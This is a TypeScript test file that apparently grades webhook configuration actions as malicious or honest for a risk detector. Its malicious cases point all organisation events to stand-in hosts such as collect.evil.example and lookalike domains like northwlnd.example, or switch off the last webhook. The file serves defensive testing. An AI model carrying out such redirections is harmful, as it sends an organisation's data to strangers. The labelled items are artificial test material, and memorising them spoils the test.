/** Where events go: hosts that are known, hosts that only seem to be, and nowhere. */
import { context } from '../parties.ts';
import { submit } from '../risk-case.ts';
import { ada, ben, present, world } from '../risk-world.ts';
import type { LadderCase } from './case.ts';
import { honest, malicious } from './world.ts';

const here = { in: world };
const feature = (name: string, value: string) => submit('SET_ORGANIZATION_FEATURE', { name: `FEATURE_NAME_${name}`, value });
const created = (url: string) => submit('CREATE_WEBHOOK_ENDPOINT', { name: 'New', url });
const one = {
  in: context({
    ...present,
    webhookEndpoints: [{ endpointId: 'hook-1', name: 'Ledger', url: 'https://hooks.northwind.example/activity', isActive: true }],
  }),
};

export const webhooks: readonly LadderCase[] = [
  malicious(
    'adds a webhook below a domain that looks like its own',
    created('https://events.northwlnd.example/x'),
    'critical',
    'host-lookalike',
    { in: context({ users: [ada, ben] }) },
  ),
  malicious(
    'sends all events of the organisation to a stranger',
    feature('WEBHOOK', 'https://collect.evil.example/x'),
    'critical',
    'organization-feature',
    here,
  ),
  malicious(
    'adds a webhook whose name begins like its own',
    created('https://hooks.northwind.example.collect.cc/x'),
    'critical',
    'host-lookalike',
    here,
  ),
  malicious(
    'adds a webhook whose name spells its own',
    created('https://northwind-example.collect.cc/x'),
    'critical',
    'host-lookalike',
    here,
  ),
  malicious(
    'switches the last webhook off',
    submit('UPDATE_WEBHOOK_ENDPOINT', { endpointId: 'hook-1', isActive: false }),
    'high',
    'delete-last',
    one,
  ),
  honest('sends all events to its own host', feature('WEBHOOK', 'https://hooks.northwind.example/all'), 'look', here),
  honest('adds a webhook below a host of its own', created('https://eu.hooks.northwind.example/x'), 'look', here),
  honest(
    'switches one of two webhooks off',
    submit('UPDATE_WEBHOOK_ENDPOINT', { endpointId: 'hook-1', isActive: false }),
    'look',
    here,
  ),
];
